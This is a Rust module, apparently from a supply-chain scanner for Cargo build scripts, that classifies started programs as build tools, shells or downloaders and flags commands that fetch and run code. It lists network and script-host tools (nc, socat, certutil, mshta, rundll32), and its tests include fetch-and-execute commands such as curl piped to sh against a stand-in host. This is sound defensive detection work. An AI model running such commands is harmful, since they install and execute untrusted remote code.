//! Which program an operation starts.
//!
//! A compiler, a version control system or a library finder is what build scripts are for. The list is of programs by what
//! they do; their arguments still count, so `git` with an address to push to is seen by what it sends.

use cratekeeper_model::facts::{OperationKind, Phase, Quality, Target, TargetKind, Topic};

use super::{Act, Behaviour, constant_parts, is_about, variables};

/// What kind of program is started.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Program {
    /// Not constant, and nothing tells that it is a tool of the toolchain.
    Computed,
    /// Compilers, linkers, version control, finders of libraries, generators of code; the package's own programs.
    BuildTool,
    /// Takes a command or a script as text.
    Shell,
    /// Fetches or sends.
    Downloader,
    /// Any other, by a constant name.
    Other,
}

const BUILD_TOOLS: &[&str] = &[
    "cargo",
    "rustc",
    "rustup",
    "rustfmt",
    "rustdoc",
    "clippy-driver",
    "cc",
    "c++",
    "gcc",
    "g++",
    "clang",
    "clang++",
    "cl",
    "link",
    "lld",
    "ld",
    "ar",
    "lib",
    "ranlib",
    "nm",
    "objcopy",
    "objdump",
    "strip",
    "as",
    "nasm",
    "yasm",
    "ml64",
    "windres",
    "rc",
    "make",
    "gmake",
    "nmake",
    "mingw32-make",
    "cmake",
    "ninja",
    "meson",
    "autoconf",
    "automake",
    "autoreconf",
    "aclocal",
    "libtoolize",
    "libtool",
    "configure",
    "pkg-config",
    "pkgconf",
    "llvm-config",
    "xcrun",
    "xcode-select",
    "sw_vers",
    "brew",
    "vswhere",
    "msbuild",
    "git",
    "hg",
    "svn",
    "jj",
    "protoc",
    "flatc",
    "capnp",
    "bindgen",
    "cbindgen",
    "swig",
    "bison",
    "flex",
    "yacc",
    "lex",
    "tar",
    "gzip",
    "xz",
    "unzip",
    "patch",
    "sed",
    "install_name_tool",
    "otool",
    "lipo",
    "codesign",
    "emcc",
    "emar",
    "wasm-opt",
    "wasm-bindgen",
    "wasm-pack",
    "nvcc",
    "hipcc",
    "glslc",
    "glslangvalidator",
    "spirv-opt",
    "javac",
    "swiftc",
    "zig",
    "go",
    "ghc",
    "ndk-build",
    "asciidoctor",
    "man",
    "getconf",
    "ldconfig",
    "ldd",
    "which",
    "where",
    "mold",
    "sccache",
    "ccache",
    "gdb",
    "lldb",
    "valgrind",
    "perf",
];

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "fish",
    "ksh",
    "cmd",
    "powershell",
    "pwsh",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "osascript",
];

const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "aria2c",
    "fetch",
    "certutil",
    "bitsadmin",
    "invoke-webrequest",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "ftp",
    "tftp",
    "scp",
    "sftp",
    "rsync",
    "ssh",
    "telnet",
];

/// Variables in which cargo and its users name tools.
const TOOL_VARIABLES: &[&str] = &[
    "RUSTC",
    "CARGO",
    "RUSTDOC",
    "RUSTFMT",
    "RUSTC_WRAPPER",
    "RUSTC_WORKSPACE_WRAPPER",
    "CC",
    "CXX",
    "AR",
    "LD",
    "CMAKE",
    "PROTOC",
    "LLVM_CONFIG",
    "LLVM_CONFIG_PATH",
    "PKG_CONFIG",
    "GIT",
    "MAKE",
    "NASM",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "BROWSER",
    "SHELL",
];

impl Behaviour<'_> {
    /// What kind of program the operation starts.
    pub(crate) fn program(&self, act: Act<'_>) -> Program {
        let named = act.operation.arguments.first().map(String::as_str).unwrap_or_default();
        let name = program_name(named);
        if self.is_own_program(act, named) {
            return Program::BuildTool;
        }
        if DOWNLOADERS.contains(&name.as_str()) {
            return Program::Downloader;
        }
        if act.is(Quality::ThroughShell) || SHELLS.contains(&name.as_str()) {
            return Program::Shell;
        }
        if is_tool(&name) {
            return Program::BuildTool;
        }
        if variables(named).any(|it| TOOL_VARIABLES.contains(&it)) {
            return Program::BuildTool;
        }
        match constant_parts(named) != named || name.is_empty() {
            true if self.reads_tool_variable(act) => Program::BuildTool,
            true => Program::Computed,
            false => Program::Other,
        }
    }

    /// The running program, and those that cargo builds of this package's source: named by cargo, or started by a test from
    /// where cargo puts them or by the name of a target. What the package itself writes to that place is none.
    fn is_own_program(&self, act: Act<'_>, named: &str) -> bool {
        if named.contains("CARGO_BIN_EXE_") || named.contains("current_exe") {
            return true;
        }
        if self.phase(act) != Phase::Test || !(is_in_target_directory(named) || self.is_built_target(named)) {
            return false;
        }
        let name = program_name(named);
        let mut writes = self.of_kind(&[OperationKind::WriteFile, OperationKind::SetPermissions]);
        !writes.any(|write| write.operation.arguments.iter().any(|path| program_name(path) == name))
    }

    /// Whether a path that is not constant ends in the name of a program or example whose source is in the package.
    fn is_built_target(&self, named: &str) -> bool {
        let name = program_name(named);
        let is_program =
            |target: &&Target| matches!(target.kind, TargetKind::Bin | TargetKind::Example) && target.exists;
        let mut programs = self.facts.manifest.targets.iter().filter(is_program);
        named.starts_with('{') && programs.any(|target| target.name.to_ascii_lowercase() == name)
    }

    /// Whether the function, or one on the way to it, reads a variable that names a tool.
    fn reads_tool_variable(&self, act: Act<'_>) -> bool {
        let is_tool = |name: &str| TOOL_VARIABLES.contains(&name);
        let named = |number: u32| {
            self.act(number)
                .is_some_and(|from| from.operation.arguments.first().is_some_and(|it| is_tool(it)))
        };
        if self.into(act).iter().filter_map(|flow| flow.from).any(named) {
            return true;
        }
        self.of_kind(&[OperationKind::ReadVariable])
            .filter(|read| read.operation.file == act.operation.file)
            .any(|read| read.operation.arguments.first().is_some_and(|it| is_tool(it)))
    }

    /// Whether the operation's own text fetches from a network, by a program or a shell's command.
    pub(crate) fn downloads(&self, act: Act<'_>) -> bool {
        if act.operation.kind != OperationKind::StartProcess {
            return false;
        }
        if self.program(act) == Program::Downloader {
            return true;
        }
        let speaks = self.texts(act).iter().any(|text| is_about(text, &[Topic::Downloader]));
        self.program(act) == Program::Shell
            && (speaks || self.command_words(act).any(|word| is_downloader(&word)))
    }

    /// Whether it starts a host of scripts that nobody types commands into.
    pub(crate) fn program_is_script_host(&self, act: Act<'_>) -> bool {
        let name = program_name(act.operation.arguments.first().map(String::as_str).unwrap_or_default());
        matches!(name.as_str(), "wscript" | "cscript" | "mshta" | "rundll32" | "regsvr32")
    }

    /// Words of the operation's constant arguments, as a shell would see them.
    pub(crate) fn command_words<'b>(&'b self, act: Act<'b>) -> impl Iterator<Item = String> + 'b {
        let texts = self.texts(act).iter().map(|text| text.value.as_str());
        let all = act.operation.arguments.iter().map(String::as_str).chain(texts);
        all.flat_map(|text| text.split(|it: char| it.is_whitespace() || "|;&()`'\"<>$".contains(it)))
            .filter(|word| !word.is_empty())
            .take(500)
            .map(program_name)
    }
}

/// Whether a word of a command names a program that fetches.
fn is_downloader(word: &str) -> bool {
    DOWNLOADERS.contains(&word)
        || matches!(word, "iwr" | "irm" | "iex" | "downloadstring" | "downloadfile" | "start-bitstransfer")
}

/// Last part of a path, without what Windows puts behind programs, in small letters.
fn program_name(path: &str) -> String {
    let name = path.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
    let endings = [".exe", ".cmd", ".bat"];
    endings.iter().find_map(|it| name.strip_suffix(it)).unwrap_or(&name).to_owned()
}

/// Whether the path leads to where cargo puts what it builds.
fn is_in_target_directory(path: &str) -> bool {
    let path = path.replace('\\', "/");
    let parts: Vec<&str> = path.split('/').collect();
    let is_profile = |part: &str| matches!(part, "debug" | "release") || part.starts_with('{');
    let mut pairs = parts.windows(2);
    // Behind the directory a profile follows, or a target's triple and a profile.
    pairs.any(|pair| matches!(pair, ["target" | "{CARGO_TARGET_DIR}", profile] if is_profile(profile)))
        || parts.windows(3).any(|it| matches!(it, ["target" | "{CARGO_TARGET_DIR}", _, "debug" | "release"]))
}

/// Whether it is a tool, also with a target in front or a version behind: `x86_64-linux-gnu-gcc`, `clang-17`, `python3.11`.
fn is_tool(name: &str) -> bool {
    let bare = name.trim_end_matches(|it: char| it.is_ascii_digit() || it == '.' || it == '-');
    let last = bare.rsplit('-').next().unwrap_or_default();
    BUILD_TOOLS.contains(&name)
        || BUILD_TOOLS.contains(&bare)
        || ((bare.contains("-linux-") || bare.starts_with("{}-")) && BUILD_TOOLS.contains(&last))
}

/// Whether a shell's command runs what it fetched in the same breath.
pub(crate) fn fetches_and_runs(command: &str) -> bool {
    let command = command.to_ascii_lowercase();
    let fetches = [
        "curl ",
        "wget ",
        "iwr ",
        "irm ",
        "invoke-webrequest",
        "downloadstring",
        "downloadfile",
        "certutil",
        "bitsadmin",
    ];
    if !fetches.iter().any(|it| command.contains(it)) {
        return false;
    }
    let compact: String = command.split_whitespace().collect::<Vec<_>>().join(" ");
    let shells = ["sh", "bash", "zsh", "python", "python3", "perl", "iex", "node", "sudo"];
    let parts = compact.split([';', '|', '&', '\n']).skip(1).map(str::trim);
    let mut later = parts.filter(|it| !it.is_empty());
    later.any(|part| {
        let first = part.split(' ').next().unwrap_or_default();
        shells.contains(&first.rsplit('/').next().unwrap_or_default())
            || first.starts_with("./")
            || first.starts_with("/tmp/")
            || first.starts_with('$')
            || part.starts_with("start-process")
            || part.starts_with("chmod")
    }) || compact.contains("<(curl")
        || compact.contains("$(curl")
        || compact.contains("iex")
        || compact.contains("start-process")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tools_are_told_by_their_last_name() {
        for path in
            ["/usr/bin/cc", "x86_64-linux-gnu-gcc", "clang-17", "{}-clang++.cmd", "C:\\bin\\CL.EXE", "git"]
        {
            assert!(is_tool(&program_name(path)), "{path}");
        }
        for path in ["sh", "true", "uname", "target/evil", "notepad.exe", "{}-sh", "{}", ""] {
            assert!(!is_tool(&program_name(path)), "{path}");
        }
    }

    #[test]
    fn where_cargo_builds_is_told_by_the_profile() {
        for path in ["target/debug/tool", "{CARGO_MANIFEST_DIR}/target/release/examples/a", "target/{}/tool"]
        {
            assert!(is_in_target_directory(path), "{path}");
        }
        assert!(is_in_target_directory("..\\target\\x86_64-pc-windows-gnu\\debug\\a.exe"));
        for path in ["target/tool", "/tmp/target", "debug/tool", "/tmp/targets/debug/tool", ""] {
            assert!(!is_in_target_directory(path), "{path}");
        }
    }

    #[test]
    fn a_command_that_runs_what_it_fetches() {
        for command in [
            "curl -s http://a.example.invalid/i -o /tmp/.i; sh /tmp/.i",
            "curl -sSf https://a.example.invalid | sh",
            "wget -q http://a.example.invalid/x && chmod +x x && ./x",
            "iwr http://a.example.invalid/w -OutFile $env:TEMP\\i.ps1; & $env:TEMP\\i.ps1",
            "bash <(curl -s http://a.example.invalid)",
        ] {
            assert!(fetches_and_runs(command), "{command}");
        }
        for command in ["curl -o data.csv http://a.example.invalid/data.csv", "echo curl; sh x", "cat a | sh"]
        {
            assert!(!fetches_and_runs(command), "{command}");
        }
    }
}
